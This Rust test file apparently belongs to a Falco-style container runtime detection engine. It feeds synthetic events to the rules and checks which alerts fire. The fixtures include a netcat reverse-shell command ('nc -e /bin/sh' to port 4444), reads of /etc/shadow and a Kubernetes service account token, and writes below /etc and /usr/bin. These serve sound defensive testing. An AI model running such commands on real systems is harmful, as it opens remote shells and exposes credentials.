//! The Falco rules the issue names, evaluated on hand-built events: each fires on the event that should
//! trigger it (attributed to the right container, with its output rendered from the event) and stays
//! quiet on a benign one. The official rules come from the corpus (skipped when absent); Palisade's own
//! rules are in the repository and always tested.

mod corpus;

use palisade_runtime::event::{Connection, Container, Event, EventKind, FileOpen, Pod, Process, ProcessRef};
use palisade_runtime::output::Alert;
use palisade_runtime::rules::{PALISADE_RULES, Ruleset};

const CID: &str = "4f2c1e9a7b3d5c6e8f0a1b2c3d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6";

fn container(image: &str) -> Container {
    Container {
        id: CID.into(),
        runtime: "containerd".into(),
        name: Some("app".into()),
        image: Some(format!("{image}:1.0")),
        pod: Some(Pod { name: "web-0".into(), namespace: "shop".into(), ..Pod::default() }),
        ..Container::default()
    }
}

fn process(comm: &str, exe: &str, args: &[&str]) -> Process {
    Process {
        pid: 4242,
        tid: 4242,
        vpid: Some(42),
        ppid: 4000,
        comm: comm.into(),
        exe: exe.into(),
        args: args.iter().map(|s| s.to_string()).collect(),
        cwd: Some("/".into()),
        uid: 0,
        gid: 0,
        loginuid: None,
        ..Process::default()
    }
}

fn parent(comm: &str, exe: &str) -> ProcessRef {
    ProcessRef { pid: 4000, comm: comm.into(), exe: exe.into(), args: vec![comm.into()] }
}

fn event(
    kind: EventKind,
    proc_: Process,
    parents: Vec<ProcessRef>,
    image: Option<&str>,
    result: i64,
) -> Event {
    Event {
        time_ns: 1_796_549_478_000_000_000,
        kind,
        result: Some(result),
        process: proc_,
        ancestors: parents,
        container: image.map(container),
    }
}

fn exec(comm: &str, exe: &str, args: &[&str], parents: Vec<ProcessRef>, image: Option<&str>) -> Event {
    event(EventKind::Execve, process(comm, exe, args), parents, image, 0)
}

fn open(comm: &str, exe: &str, path: &str, flags: u32, image: Option<&str>) -> Event {
    event(
        EventKind::Open(FileOpen { path: path.into(), raw_path: None, flags, mode: 0o644 }),
        process(comm, exe, &[comm, path]),
        vec![parent("bash", "/bin/bash")],
        image,
        3,
    )
}

fn connect(comm: &str, addr: &str, port: u16, name: Option<&str>, image: Option<&str>) -> Event {
    let c = Connection {
        protocol: "tcp".into(),
        local_addr: Some("172.17.0.5".into()),
        local_port: Some(40512),
        remote_addr: Some(addr.into()),
        remote_port: Some(port),
        remote_name: name.map(str::to_string),
    };
    event(
        EventKind::Connect(c),
        process(comm, &format!("/usr/bin/{comm}"), &[comm, addr, &port.to_string()]),
        vec![parent("sh", "/bin/sh")],
        image,
        0,
    )
}

const O_WRONLY_CREAT_TRUNC: u32 = 0o1101;

fn rules() -> (Option<tempfile::TempDir>, Ruleset) {
    let mut sources: Vec<(String, String)> = Vec::new();
    let dir = corpus::extract("falco-rules.tar.gz");
    if let Some(d) = &dir {
        for f in ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"] {
            let p = d.path().join("falco-rules/rules").join(f);
            sources.push((f.to_string(), std::fs::read_to_string(p).unwrap_or_default()));
        }
    }
    sources.push(("palisade_rules.yaml".into(), PALISADE_RULES.into()));
    let refs: Vec<(&str, &str)> = sources.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    let mut rs = Ruleset::from_sources(&refs).unwrap_or_else(|e| panic!("{e}"));
    rs.set_hostname("node-1");
    (dir, rs)
}

fn fired(rs: &Ruleset, ev: &Event) -> Vec<Alert> {
    rs.evaluate(ev)
}

fn names(alerts: &[Alert]) -> Vec<&str> {
    alerts.iter().map(|a| a.rule.as_str()).collect()
}

fn assert_fires<'a>(alerts: &'a [Alert], rule: &str) -> &'a Alert {
    alerts
        .iter()
        .find(|a| a.rule == rule)
        .unwrap_or_else(|| panic!("{rule} did not fire; fired: {:?}", names(alerts)))
}

#[test]
fn palisade_rules_load_alone_without_warnings() {
    let rs =
        Ruleset::from_sources(&[("palisade_rules.yaml", PALISADE_RULES)]).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(rs.rules().len(), 3);
    assert!(rs.warnings.is_empty(), "{:?}", rs.warnings);
}

#[test]
fn service_account_token_read() {
    let (_d, rs) = rules();
    let ev = open(
        "cat",
        "/bin/cat",
        "/var/run/secrets/kubernetes.io/serviceaccount/..2026_12_06/token",
        0,
        Some("docker.io/library/busybox"),
    );
    let alerts = fired(&rs, &ev);
    let a = assert_fires(&alerts, "Read Kubernetes service account token");
    assert_eq!(a.output_fields["container.id"], CID[..12]);
    assert_eq!(a.output_fields["k8s.pod.name"], "web-0");
    assert!(a.output.contains("process=cat"), "{}", a.output);
    // The namespace file next to it is not the token.
    let quiet = open(
        "cat",
        "/bin/cat",
        "/var/run/secrets/kubernetes.io/serviceaccount/namespace",
        0,
        Some("docker.io/library/busybox"),
    );
    assert!(!names(&fired(&rs, &quiet)).contains(&"Read Kubernetes service account token"));
}

#[test]
fn unexpected_outbound_connection_and_api_server_by_address() {
    let (_d, rs) = rules();
    let nc = connect("nc", "93.184.216.34", 4444, None, Some("docker.io/library/busybox"));
    let a = fired(&rs, &nc);
    let alert = assert_fires(&a, "Unexpected outbound connection from container");
    assert_eq!(alert.output_fields["fd.name"], "172.17.0.5:40512->93.184.216.34:4444");
    let https = connect("curl", "93.184.216.34", 443, None, Some("docker.io/library/busybox"));
    assert!(!names(&fired(&rs, &https)).contains(&"Unexpected outbound connection from container"));
    let api = connect("curl", "10.96.0.1", 443, None, Some("docker.io/library/busybox"));
    assert_fires(&fired(&rs, &api), "Contact K8S API Server address from container");
    // Host processes are not containers.
    let host = connect("nc", "93.184.216.34", 4444, None, None);
    assert!(fired(&rs, &host).iter().all(|a| !a.rule.contains("from container")));
}

/// The official rules: skipped (with a message) when the corpus is absent.
macro_rules! need_corpus {
    ($d:expr) => {
        if $d.is_none() {
            println!("SKIP: official Falco rules absent");
            return;
        }
    };
}

#[test]
fn terminal_shell_in_container() {
    let (d, rs) = rules();
    need_corpus!(d);
    let mut ev = exec(
        "bash",
        "/bin/bash",
        &["bash"],
        vec![parent("containerd-shim", "/usr/bin/containerd-shim-runc-v2")],
        Some("docker.io/library/debian"),
    );
    ev.process.tty = 34816;
    let a = fired(&rs, &ev);
    let alert = assert_fires(&a, "Terminal shell in container");
    assert_eq!(alert.priority, "Notice");
    assert_eq!(alert.output_fields["proc.name"], "bash");
    assert_eq!(alert.output_fields["container.id"], CID[..12]);
    assert_eq!(alert.hostname, "node-1");
    assert_eq!(alert.time, "2026-12-06T09:31:18.000000000Z");
    assert!(
        alert.output.starts_with(
            "09:31:18.000000000: Notice A shell was spawned in a container with an attached terminal"
        ),
        "{}",
        alert.output
    );
    let json: serde_json::Value = serde_json::from_str(&alert.to_json()).unwrap_or_default();
    assert_eq!(json["rule"], "Terminal shell in container");
    assert!(json["tags"].as_array().is_some_and(|t| t.iter().any(|x| x == "maturity_stable")));
    // No terminal: no alert; on the host: no alert.
    ev.process.tty = 0;
    assert!(!names(&fired(&rs, &ev)).contains(&"Terminal shell in container"));
    let mut host = exec("bash", "/bin/bash", &["bash"], vec![], None);
    host.process.tty = 34816;
    assert!(!names(&fired(&rs, &host)).contains(&"Terminal shell in container"));
}

#[test]
fn read_sensitive_file_untrusted() {
    let (d, rs) = rules();
    need_corpus!(d);
    let ev = open("cat", "/bin/cat", "/etc/shadow", 0, Some("docker.io/library/debian"));
    let a = fired(&rs, &ev);
    let alert = assert_fires(&a, "Read sensitive file untrusted");
    assert_eq!(alert.output_fields["fd.name"], "/etc/shadow");
    assert!(alert.output.contains("file=/etc/shadow"), "{}", alert.output);
    let quiet = open("cat", "/bin/cat", "/etc/hostname", 0, Some("docker.io/library/debian"));
    assert!(!names(&fired(&rs, &quiet)).contains(&"Read sensitive file untrusted"));
    // A trusted program (a login binary) reading it is an exception of the rule.
    let trusted = open("sshd", "/usr/sbin/sshd", "/etc/shadow", 0, Some("docker.io/library/debian"));
    assert!(!names(&fired(&rs, &trusted)).contains(&"Read sensitive file untrusted"));
}

#[test]
fn write_below_etc_and_binary_dir() {
    let (d, rs) = rules();
    need_corpus!(d);
    let etc = open(
        "touch",
        "/usr/bin/touch",
        "/etc/evil.conf",
        O_WRONLY_CREAT_TRUNC,
        Some("docker.io/library/debian"),
    );
    assert_fires(&fired(&rs, &etc), "Write below etc");
    let bin = open("cp", "/bin/cp", "/usr/bin/evil", O_WRONLY_CREAT_TRUNC, Some("docker.io/library/debian"));
    assert_fires(&fired(&rs, &bin), "Write below binary dir");
    // Reading is not writing.
    let read = open("cat", "/bin/cat", "/etc/os-release", 0, Some("docker.io/library/debian"));
    let n = fired(&rs, &read);
    assert!(!names(&n).contains(&"Write below etc"), "{:?}", names(&n));
}

#[test]
fn package_management_in_container() {
    let (d, rs) = rules();
    need_corpus!(d);
    let ev = exec(
        "apt-get",
        "/usr/bin/apt-get",
        &["apt-get", "install", "-y", "nmap"],
        vec![parent("bash", "/bin/bash")],
        Some("docker.io/library/debian"),
    );
    assert_fires(&fired(&rs, &ev), "Launch Package Management Process in Container");
    let host = exec(
        "apt-get",
        "/usr/bin/apt-get",
        &["apt-get", "install", "-y", "nmap"],
        vec![parent("bash", "/bin/bash")],
        None,
    );
    assert!(!names(&fired(&rs, &host)).contains(&"Launch Package Management Process in Container"));
}

#[test]
fn drop_and_execute_new_binary() {
    let (d, rs) = rules();
    need_corpus!(d);
    let mut ev = exec(
        "evil",
        "/tmp/evil",
        &["/tmp/evil"],
        vec![parent("sh", "/bin/sh")],
        Some("docker.io/library/debian"),
    );
    ev.process.exe_from_upper_layer = true;
    let a = fired(&rs, &ev);
    let alert = assert_fires(&a, "Drop and execute new binary in container");
    assert_eq!(alert.priority, "Critical");
    assert_eq!(alert.output_fields["evt.arg.flags"], "EXE_UPPER_LAYER");
    ev.process.exe_from_upper_layer = false;
    assert!(!names(&fired(&rs, &ev)).contains(&"Drop and execute new binary in container"));
}

#[test]
fn netcat_remote_code_execution() {
    let (d, rs) = rules();
    need_corpus!(d);
    let ev = exec(
        "nc",
        "/usr/bin/nc",
        &["nc", "-e", "/bin/sh", "93.184.216.34", "4444"],
        vec![parent("sh", "/bin/sh")],
        Some("docker.io/library/debian"),
    );
    assert_fires(&fired(&rs, &ev), "Netcat Remote Code Execution in Container");
    let plain = exec(
        "nc",
        "/usr/bin/nc",
        &["nc", "-z", "db", "5432"],
        vec![parent("sh", "/bin/sh")],
        Some("docker.io/library/debian"),
    );
    assert!(!names(&fired(&rs, &plain)).contains(&"Netcat Remote Code Execution in Container"));
}

#[test]
fn contact_k8s_api_server_from_container() {
    let (d, rs) = rules();
    need_corpus!(d);
    let ev = connect(
        "curl",
        "10.96.0.1",
        443,
        Some("kubernetes.default.svc.cluster.local"),
        Some("docker.io/library/busybox"),
    );
    let a = fired(&rs, &ev);
    let alert = assert_fires(&a, "Contact K8S API Server From Container");
    assert_eq!(alert.output_fields["fd.rport"], "443");
    // An image on the allow list of the rule is quiet.
    let allowed = connect(
        "prometheus",
        "10.96.0.1",
        443,
        Some("kubernetes.default.svc.cluster.local"),
        Some("quay.io/prometheus/prometheus"),
    );
    assert!(!names(&fired(&rs, &allowed)).contains(&"Contact K8S API Server From Container"));
}

#[test]
fn quiet_container_raises_nothing() {
    let (_d, rs) = rules();
    let image = Some("docker.io/library/nginx");
    let events = vec![
        exec(
            "nginx",
            "/usr/sbin/nginx",
            &["nginx", "-g", "daemon off;"],
            vec![parent("containerd-shim", "/usr/bin/containerd-shim-runc-v2")],
            image,
        ),
        open("nginx", "/usr/sbin/nginx", "/usr/share/nginx/html/index.html", 0, image),
        open("nginx", "/usr/sbin/nginx", "/var/log/nginx/access.log", 0o2101, image),
        connect("nginx", "93.184.216.34", 443, Some("example.com"), image),
        connect("nginx", "10.1.2.3", 8080, None, image),
    ];
    for ev in &events {
        let a = fired(&rs, ev);
        assert!(a.is_empty(), "{:?} raised {:?}", ev.kind, names(&a));
    }
}

#[test]
fn index_skips_rules_of_other_event_types() {
    let (_d, rs) = rules();
    // An exit event meets no syscall rule that names other types, and raises nothing.
    let ev = event(
        EventKind::Exit { code: 0 },
        process("sh", "/bin/sh", &["sh"]),
        vec![],
        Some("docker.io/library/debian"),
        0,
    );
    assert!(fired(&rs, &ev).is_empty());
}
